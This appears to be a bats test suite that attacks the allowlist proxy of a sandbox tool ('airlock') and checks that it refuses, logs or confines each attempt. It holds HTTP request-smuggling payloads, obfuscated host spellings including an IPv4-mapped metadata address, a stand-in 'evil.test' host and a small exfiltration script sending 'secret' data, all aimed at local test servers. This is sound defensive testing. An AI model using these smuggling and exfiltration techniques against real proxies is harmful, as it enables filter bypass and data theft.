#!/usr/bin/env bats
# Attacks on the allowlist proxy (docs/network.md): the command inside the
# quarantine tries to reach what the policy does not allow, hide what it
# did, or break the proxy. Each test asserts the SAFE behaviour; a test
# that found a hole starts with `skip "HOLE: ..."` (see the report of the
# branch that added it). As root and as nobody.
load helpers

# shellcheck disable=SC1091 # tests/helpers/net.sh
source "$BATS_TEST_DIRNAME/../helpers/net.sh"

setup_file() {
	net_world_start "$BATS_FILE_TMPDIR/world"
	# A sink on 127.0.0.2 that logs every line it receives until EOF (or
	# 3 s), then answers one 200: what reached the upstream, byte-exact.
	cat >"$NET_DIR/sink.py" <<'PY'
import socket, sys, threading
log, ready = sys.argv[1], sys.argv[2]
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.2", 0)); s.listen(256)
def serve(c):
    c.settimeout(3); data = b""
    try:
        while True:
            d = c.recv(65536)
            if not d: break
            data += d
    except OSError: pass
    with open(log, "a") as f:
        for line in data.split(b"\n"):
            f.write("sink " + line.decode("latin-1").rstrip("\r") + "\n")
    try: c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
    except OSError: pass
    c.close()
open(ready, "w").write(str(s.getsockname()[1]))
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
PY
	/usr/bin/python3 "$NET_DIR/sink.py" "$NET_LOG" "$NET_DIR/sink.port" 3>&- &
	echo $! >"$NET_DIR/sink.pid"
	for _ in $(seq 50); do [ -s "$NET_DIR/sink.port" ] && break; sleep 0.1; done
	# A server on 127.0.0.2 that reads to EOF and then keeps its side open
	# for 60 s (an upstream the command controls that never closes).
	cat >"$NET_DIR/hold.py" <<'PY'
import socket, sys, threading, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.2", 0)); s.listen(256)
def serve(c):
    try:
        while c.recv(65536): pass
    except OSError: pass
    time.sleep(60)
    c.close()
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
PY
	/usr/bin/python3 "$NET_DIR/hold.py" "$NET_DIR/hold.port" 3>&- &
	echo $! >"$NET_DIR/hold.pid"
	for _ in $(seq 50); do [ -s "$NET_DIR/hold.port" ] && break; sleep 0.1; done
	# More names: one with two addresses (one not allowed first), one
	# mapped to an IPv4-mapped metadata address.
	{
		cat "$NET_HOSTS"
		printf '127.0.0.2 sink.test hold.test\n127.0.0.3 multi.test\n127.0.0.2 multi.test\n'
		printf '::ffff:169.254.169.254 mapped.test\n::ffff:127.0.0.3 mapped2.test\n'
	} >"$NET_DIR/hosts2"
	chmod a+r "$NET_DIR/hosts2"
	# A raw client: sends its arguments' bytes (Python escapes) to the
	# proxy, in pieces of at most $CHUNK bytes, then prints the first line
	# of what came back, or "closed".
	cat >"$NET_DIR/raw.py" <<'PY'
import os, socket, sys, time
chunk = int(os.environ.get("CHUNK", "0"))
s = socket.create_connection(("127.0.0.1", 3128), timeout=15)
try:
    for arg in sys.argv[1:]:
        data = arg.encode("latin-1").decode("unicode_escape").encode("latin-1")
        if chunk:
            for i in range(0, len(data), chunk):
                s.sendall(data[i:i + chunk]); time.sleep(0.001)
        else:
            s.sendall(data)
        time.sleep(0.2)
except OSError:
    pass  # the proxy closed on us: what came back is printed
try:
    s.shutdown(socket.SHUT_WR)
except OSError:
    pass
got = b""
try:
    while True:
        d = s.recv(65536)
        if not d: break
        got += d
except OSError:
    pass
print(got.split(b"\r\n")[0].decode("latin-1") if got else "closed")
PY
	chmod a+rx "$NET_DIR/raw.py" "$NET_DIR/sink.py"
}

teardown_file() {
	kill "$(cat "$NET_DIR/sink.pid")" "$(cat "$NET_DIR/hold.pid")" 2>/dev/null || true
	net_world_stop
}

setup() {
	setup_dirs
	: >"$NET_LOG"
	SINK=$(cat "$NET_DIR/sink.port")
	cp "$NET_DIR/raw.py" "$WORK/raw.py"
}

CONNS='.sandbox.network.connections'

aln() {
	run --separate-stderr "$NET_HELPERS/nethosts.sh" "$NET_DIR/hosts2" "$AIRLOCK" "$@"
}

net_policy() { # allow-json [deny-json]
	jq -n --argjson a "$1" --argjson d "${2:-[]}" \
		'{schema: "airlock.policy/1", sandbox: {net: {allow: $a, deny: $d}}}' >"$TEST_DIR/net.json"
	approve_policy "$TEST_DIR/net.json"
}

sink_allow() {
	jq -cn --arg p "$SINK" --arg h "$NET_HTTP" '["sink.test:\($p)", "127.0.0.2:\($p)", "registry.test:\($h)", "127.0.0.2:\($h)"]'
}

@test "netattack: a request pipelined behind a Content-Length body never reaches the server" {
	net_policy "$(sink_allow)"
	aln run --policy "$TEST_DIR/net.json" -- python3 raw.py \
		"GET http://sink.test:$SINK/a HTTP/1.1\r\nHost: sink.test:$SINK\r\nContent-Length: 5\r\n\r\nhelloGET /b HTTP/1.1\r\nHost: evil.test\r\n\r\n"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; rq .stdout .stderr; cat "$NET_LOG"; return 1; }
	grep -q "^sink GET /a HTTP/1.1" "$NET_LOG" || { cat "$NET_LOG"; return 1; }
	never_served "evil.test|GET /b"
	# the same split over many small writes
	: >"$NET_LOG"
	aln run --policy "$TEST_DIR/net.json" -- env CHUNK=3 python3 raw.py \
		"GET http://sink.test:$SINK/a HTTP/1.1\r\nHost: sink.test:$SINK\r\nContent-Length: 5\r\n\r\nhelloGET /b HTTP/1.1\r\nHost: evil.test\r\n\r\n"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	grep -q "^sink GET /a HTTP/1.1" "$NET_LOG" || { cat "$NET_LOG"; return 1; }
	never_served "evil.test|GET /b"
}

@test "netattack: chunked bodies, TE with CL, two Content-Lengths, Upgrade and HTTP/2 prior knowledge go nowhere else" {
	net_policy "$(sink_allow)"
	u="http://sink.test:$SINK"
	aln run --policy "$TEST_DIR/net.json" -- sh -c "
		python3 raw.py 'POST $u/c HTTP/1.1\r\nHost: sink.test:$SINK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /b HTTP/1.1\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'POST $u/d HTTP/1.1\r\nHost: sink.test:$SINK\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\nGET /b HTTP/1.1\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'POST $u/e HTTP/1.1\r\nHost: sink.test:$SINK\r\nContent-Length: 0\r\nContent-Length: 40\r\n\r\nGET /b HTTP/1.1\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'GET $u/f HTTP/1.1\r\nHost: sink.test:$SINK\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /b HTTP/1.1\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
		python3 raw.py 'GET $u/g HTTP/1.1\r\nHost: sink.test:$SINK\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'GET $u/h HTTP/1.1\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'GET http://evil.test@sink.test:$SINK/i HTTP/1.1\r\n\r\n'
		python3 raw.py 'GET /j HTTP/1.1\r\nHost: sink.test:$SINK\r\n\r\n'
		python3 raw.py 'GET $u/k HTTP/1.1\r\nHost: sink.test:$SINK\r\n Host: evil.test\r\n\r\n'"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	out=$(rq .stdout)
	echo "$out"
	[ "$(sed -n 1p <<<"$out")" = "HTTP/1.1 501 Not Implemented" ]
	[[ "$(sed -n 2p <<<"$out")" == "HTTP/1.1 4"* ]]
	[[ "$(sed -n 3p <<<"$out")" == "HTTP/1.1 4"* ]]
	[[ "$(sed -n 5p <<<"$out")" == "HTTP/1.1 4"* ]]
	for l in 6 7 8 9 10; do [[ "$(sed -n ${l}p <<<"$out")" == "HTTP/1.1 4"* || "$(sed -n ${l}p <<<"$out")" == closed ]]; done
	# the upgrade's request reached the sink without its Upgrade header
	never_served "evil.test|GET /b|^sink Upgrade|^sink GET /[cdeghijk]|^sink POST"
	cat "$NET_LOG"
}

@test "netattack: numeric, uppercase, trailing-dot, NUL and escape spellings of hosts: refused or canonical, never elsewhere" {
	net_policy "$(sink_allow)"
	aln run --policy "$TEST_DIR/net.json" -- sh -c "
		for h in 2130706435 0x7f.0.0.3 0177.0.0.3 127.3 0x7f000003 '[::ffff:127.0.0.3]' '[::ffff:7f00:3]' '[::7f00:3]' 'denied.test..' 'sink.test.\x00.evil' 'sink\x1b[31m.test' '127.0.0.3%2f' 'xn--sink-.test' 'sink.test%00'; do
			python3 raw.py \"CONNECT \$h:$NET_DENIED HTTP/1.1\r\nHost: x\r\n\r\n\"
		done
		python3 raw.py 'GET http://SINK.TEST.:$SINK/up HTTP/1.1\r\nHost: SINK.TEST.:$SINK\r\n\r\n'"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	out=$(rq .stdout)
	echo "$out"
	[ "$(grep -c '^HTTP/1.1 4' <<<"$out")" -ge 14 ] || return 1
	# the canonical spelling is allowed by name, and resolved as the
	# matcher normalised it (without the trailing dot): only 127.0.0.2
	[ "$(tail -1 <<<"$out")" = "HTTP/1.0 200 OK" ] || { echo "trailing dot: not served"; return 1; }
	rq -e "${CONNS}[-1] | .host == \"SINK.TEST.\" and .pattern == \"sink.test:$SINK\"" >/dev/null
	never_served "^https 127.0.0.3"
	rq -e "[${CONNS}[] | select(.allowed)] | length <= 1" >/dev/null
	# no escape byte anywhere in the receipt's records or show's output
	if rq -c "$CONNS" | grep -q $'\x1b'; then echo "an escape on the receipt"; return 1; fi
	run "$AIRLOCK" show "$(receipt_id)"
	[[ "$output" != *$'\x1b'* ]]
}

@test "netattack: a name with a not-allowed address first connects only to the allowed one; IPv4-mapped special addresses are refused" {
	net_policy "$(jq -cn --arg d "$NET_DENIED" '["multi.test:\($d)", "127.0.0.2:\($d)", "mapped.test", "mapped2.test:\($d)"]')"
	aln run --policy "$TEST_DIR/net.json" -- sh -c "
		python3 raw.py 'CONNECT multi.test:$NET_DENIED HTTP/1.1\r\n\r\n'
		python3 raw.py 'GET http://mapped.test/latest HTTP/1.1\r\n\r\n'
		python3 raw.py 'CONNECT mapped2.test:$NET_DENIED HTTP/1.1\r\n\r\n'"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	out=$(rq .stdout)
	echo "$out"
	rq -c "$CONNS"
	never_served "127.0.0.3"
	# multi.test: 127.0.0.2 was the one used (nothing listens there: 502)
	rq -e "${CONNS}[] | select(.host == \"multi.test\") | (.address // \"127.0.0.2\") == \"127.0.0.2\"" >/dev/null
	rq -e "${CONNS}[] | select(.host == \"mapped.test\") | .allowed == false and .rule == \"net_address\"" >/dev/null
	rq -e "${CONNS}[] | select(.host == \"mapped2.test\") | .allowed == false and .rule == \"net_address\"" >/dev/null
}

@test "netattack: a CONNECT to an allowed name, then a CONNECT or plain bytes inside the tunnel, goes nowhere" {
	net_policy "$(sink_allow)"
	aln run --policy "$TEST_DIR/net.json" -- sh -c "
		python3 raw.py 'CONNECT sink.test:$SINK HTTP/1.1\r\n\r\nCONNECT denied.test:$NET_DENIED HTTP/1.1\r\n\r\n'
		python3 raw.py 'CONNECT sink.test:$SINK HTTP/1.1\r\n\r\n' 'GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n'"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	never_served "^sink .|denied.test|^https 127.0.0.3"
	rq -e "[${CONNS}[] | select(.host == \"sink.test\" and .rule == \"net_sni\" and .bytes_out == 0)] | length == 2" >/dev/null ||
		{ rq -c "$CONNS"; return 1; }
}

@test "netattack: a head over 64 KiB is refused 431; a head fed a byte at a time within the deadline works" {
	net_policy "$(sink_allow)"
	big=$(head -c 70000 /dev/zero | tr '\0' a)
	aln run --policy "$TEST_DIR/net.json" -- sh -c "
		python3 raw.py 'GET http://sink.test:$SINK/big HTTP/1.1\r\nX-A: $big\r\n\r\n'
		CHUNK=1 python3 raw.py 'GET http://sink.test:$SINK/slow HTTP/1.1\r\nHost: sink.test:$SINK\r\n\r\n'"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	out=$(rq .stdout)
	[[ "$(sed -n 1p <<<"$out")" == "HTTP/1.1 431"* || "$(sed -n 1p <<<"$out")" == closed ]] || { echo "$out"; return 1; }
	[ "$(sed -n 2p <<<"$out")" = "HTTP/1.0 200 OK" ] || { echo "$out"; return 1; }
	never_served "GET /big"
}

@test "netattack: a denied host hidden among more than 1,000 connections is still named on the receipt and by show" {
	net_policy "$(sink_allow)"
	cat >"$WORK/flood.py" <<'PY'
import socket, sys
def one(req):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(req); s.shutdown(socket.SHUT_WR)
    while s.recv(4096): pass
    s.close()
for _ in range(600): one(b"BOGUS\r\n\r\n")
one(b"CONNECT denied.test:443 HTTP/1.1\r\n\r\n")
for _ in range(600): one(b"BOGUS\r\n\r\n")
print("done")
PY
	aln run --timeout 60 --policy "$TEST_DIR/net.json" -- python3 flood.py
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	[ "$(rq .stdout)" = "done" ]
	rq -c ".sandbox.network.connections_dropped"
	rq -e '[.sandbox.network.summary.denied[] | select(.host == "denied.test" and .port == 443 and .rule == "net_not_allowed" and .connections == 1)] | length == 1' >/dev/null
	run "$AIRLOCK" show "$(receipt_id)"
	[[ "$output" == *"denied.test:443"* ]] || { echo "show does not name denied.test"; return 1; }
}

@test "netattack: the proxy outlives no run, even when the command leaves a tunnel open in a background process" {
	net_policy "$(sink_allow)"
	start=$(date +%s)
	"$NET_HELPERS/nethosts.sh" "$NET_DIR/hosts2" "$AIRLOCK" run --policy "$TEST_DIR/net.json" -- sh -c "
		(python3 raw.py 'CONNECT sink.test:$SINK HTTP/1.1\r\n\r\n\x16\x03\x01' >/dev/null 2>&1 &) ; touch up; sleep 2; echo bye" >"$TEST_DIR/out" 2>&1 &
	bg=$!
	for _ in $(seq 300); do [ -e "$WORK/up" ] || [ ! -d "/proc/$bg" ] && break; sleep 0.1; done
	pid=$(proxy_below "$bg")
	[ -n "$pid" ] || { wait "$bg" || true; cat "$TEST_DIR/out"; echo "no proxy below $bg"; return 1; }
	wait "$bg" || { cat "$TEST_DIR/out"; return 1; }
	[ $(($(date +%s) - start)) -lt 40 ]
	[ ! -d "/proc/$pid" ] || [[ "$(tr '\0' ' ' <"/proc/$pid/cmdline")" != *__netproxy* ]] ||
		{ echo "proxy $pid outlived its run"; return 1; }
}

@test "netattack: widening in another spelling still needs the approver" {
	for allow in '["*.TEST"]' '["Sink.Test."]' '["127.0.0.0/8"]' '["[::ffff:127.0.0.2]"]' '["registry.test:80"]'; do
		printf '{"schema":"airlock.policy/1","sandbox":{"net":{"allow":%s}}}' "$allow" >"$TEST_DIR/p.json"
		al run --policy "$TEST_DIR/p.json" -- touch ran
		[ "$status" -eq 126 ] || [ "$status" -eq 125 ] || { echo "$allow: exit $status $stderr"; return 1; }
		[ ! -e ran ]
	done
	# a project policy in the workspace, as a routed run gets it: the same
	mkdir -p .airlock
	printf '{"schema":"airlock.policy/1","sandbox":{"net":{"allow":["*.zone.test"],"deny":[]}}}' >.airlock/policy.json
	al run --policy .airlock/policy.json -- touch ran
	[ "$status" -eq 126 ] || { echo "exit $status $stderr"; return 1; }
	[ ! -e ran ]
}

@test "netattack: tunnels held open up to the descriptor limit do not make the proxy spin outside the run's cgroup" {
	cp "$NET_CA" "$WORK/.test-ca.pem"
	net_policy "$(jq -cn --arg s "$NET_HTTPS" '["registry.test:\($s)", "127.0.0.2:\($s)"]')"
	cat >"$WORK/hold.py" <<'PY'
import socket, ssl, sys, time
port, n = int(sys.argv[1]), int(sys.argv[2])
ctx = ssl.create_default_context(cafile=".test-ca.pem")
held = []
for _ in range(n):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
        s.sendall(f"CONNECT registry.test:{port} HTTP/1.1\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            d = s.recv(1)
            if not d: raise OSError("closed")
            head += d
        held.append(ctx.wrap_socket(s, server_hostname="registry.test"))
    except OSError:
        break
extra = [socket.create_connection(("127.0.0.1", 3128), timeout=5) for _ in range(3)]
print("held", len(held), flush=True)
open("up", "w").close()
time.sleep(6)
PY
	(ulimit -n 1024 && exec "$NET_HELPERS/nethosts.sh" "$NET_DIR/hosts2" "$AIRLOCK" run --policy "$TEST_DIR/net.json" -- python3 hold.py "$NET_HTTPS" 400) >"$TEST_DIR/out" 2>&1 &
	bg=$!
	for _ in $(seq 600); do [ -e "$WORK/up" ] || [ ! -d "/proc/$bg" ] && break; sleep 0.1; done
	pid=$(proxy_below "$bg")
	[ -n "$pid" ] || { wait "$bg" || true; cat "$TEST_DIR/out"; echo "no proxy below $bg"; return 1; }
	sleep 1
	t0=$(awk '{print $14 + $15}' "/proc/$pid/stat")
	sleep 3
	t1=$(awk '{print $14 + $15}' "/proc/$pid/stat")
	wait "$bg" || true
	cat "$TEST_DIR/out"
	echo "proxy CPU over 3 s: $((t1 - t0)) ticks"
	# less than a tenth of a core while idle (100 ticks a second)
	[ $((t1 - t0)) -lt 30 ]
}

@test "netattack: bytes sent through a tunnel whose upstream never closes are on the receipt" {
	HOLD=$(cat "$NET_DIR/hold.port")
	net_policy "$(jq -cn --arg p "$HOLD" '["hold.test:\($p)", "127.0.0.2:\($p)"]')"
	cat >"$WORK/exfil.py" <<'PY'
import socket, ssl, sys
port = int(sys.argv[1])
# a ClientHello naming hold.test, made without any server
ctx = ssl.create_default_context()
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname="hold.test")
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(f"CONNECT hold.test:{port} HTTP/1.1\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
print(head.split(b"\r\n")[0].decode())
s.sendall(hello + b"secret" * 20000)
s.close()
PY
	start=$(date +%s)
	aln run --policy "$TEST_DIR/net.json" -- python3 exfil.py "$HOLD"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; rq .stderr; return 1; }
	echo "run took $(($(date +%s) - start)) s"
	rq .stdout
	rq -c "$CONNS"
	rq -c .sandbox.network.proxy
	rq -e "[${CONNS}[] | select(.host == \"hold.test\" and .allowed and .bytes_out >= 120000)] | length == 1" >/dev/null
}

@test "netattack: the proxy holds no descriptor of the supervisor's (state directory, ledger), and is confined" {
	net_policy "$(sink_allow)"
	"$NET_HELPERS/nethosts.sh" "$NET_DIR/hosts2" "$AIRLOCK" run --policy "$TEST_DIR/net.json" -- sh -c \
		"python3 raw.py 'GET http://sink.test:$SINK/x HTTP/1.1\r\n\r\n' >/dev/null; touch up; sleep 3" >"$TEST_DIR/out" 2>&1 &
	bg=$!
	for _ in $(seq 300); do [ -e "$WORK/up" ] || [ ! -d "/proc/$bg" ] && break; sleep 0.1; done
	pid=$(proxy_below "$bg")
	[ -n "$pid" ] || { wait "$bg" || true; cat "$TEST_DIR/out"; echo "no proxy below $bg"; return 1; }
	st=$(cat "/proc/$pid/status")
	grep -E "^(Uid|Cap|NoNew|Seccomp)" <<<"$st"
	grep -q '^NoNewPrivs:[[:space:]]*1' <<<"$st"
	grep -q '^Seccomp:[[:space:]]*2' <<<"$st"
	grep -q '^CapEff:[[:space:]]*0000000000000000' <<<"$st"
	grep -q '^CapPrm:[[:space:]]*0000000000000000' <<<"$st"
	# its descriptors (as root: readable despite PR_SET_DUMPABLE 0): none
	# below the state directory or the workspace
	if [ "$(id -u)" -eq 0 ]; then
		links=$(for f in /proc/"$pid"/fd/*; do readlink "$f"; done)
		echo "$links"
		if grep -q -e "$AIRLOCK_STATE_DIR" -e "$WORK" <<<"$links"; then return 1; fi
		[ "$(grep -c . <<<"$links")" -le 8 ]
	else
		# as the same uid: undumpable, so its descriptors are not ours to see
		if ls "/proc/$pid/fd/" >/dev/null 2>&1; then echo "its descriptors are listable"; return 1; fi
	fi
	wait "$bg"
}

@test "netattack: as root, the proxy's capability bounding set is empty (docs/network.md: bounding set included)" {
	[ "$(id -u)" -eq 0 ] || skip "as root only"
	net_policy "$(sink_allow)"
	"$NET_HELPERS/nethosts.sh" "$NET_DIR/hosts2" "$AIRLOCK" run --policy "$TEST_DIR/net.json" -- sh -c \
		"touch up; sleep 2" >"$TEST_DIR/out" 2>&1 &
	bg=$!
	for _ in $(seq 300); do [ -e "$WORK/up" ] || [ ! -d "/proc/$bg" ] && break; sleep 0.1; done
	pid=$(proxy_below "$bg")
	[ -n "$pid" ] || { wait "$bg" || true; cat "$TEST_DIR/out"; echo "no proxy below $bg"; return 1; }
	bnd=$(awk '/^CapBnd/ {print $2}' "/proc/$pid/status")
	wait "$bg"
	[ "$bnd" = 0000000000000000 ] || { echo "CapBnd $bnd"; return 1; }
}

@test "netattack: header spellings that could hide a second Host from the proxy: the server never sees another Host" {
	net_policy "$(sink_allow)"
	u="http://sink.test:$SINK"
	aln run --policy "$TEST_DIR/net.json" -- sh -c "
		python3 raw.py 'GET $u/a HTTP/1.1\nX-A:\nHostxx: evil.test\n\n'
		python3 raw.py 'GET $u/b HTTP/1.1\r\nX-A:\r\nHostxxx: evil.test\r\n\r\n'
		python3 raw.py 'GET $u/c HTTP/1.1\r\nX-A: \r\nHost: evil.test\r\n\r\n'
		CHUNK=1 python3 raw.py 'GET $u/d HTTP/1.1\r\nX-A:\r\nHost: evil.test\r\n\r\n'
		python3 raw.py 'GET $u/e HTTP/1.1\r\nHost: sink.test:$SINK\r\nX-A: a\r\n\tHost: evil.test\r\n\r\n'
		python3 raw.py 'GET $u/f HTTP/1.1\r\nHost: sink.test:$SINK\r\nHost\r\n: evil.test\r\n\r\n'"
	[ "$status" -eq 0 ] || { echo "exit $status: $stderr"; return 1; }
	# Hostxx and Hostxxx are other headers: the server sees them as such
	never_served "^sink [Hh][Oo][Ss][Tt][[:space:]]*:[[:space:]]*evil|^sink GET /[cdef]"
}
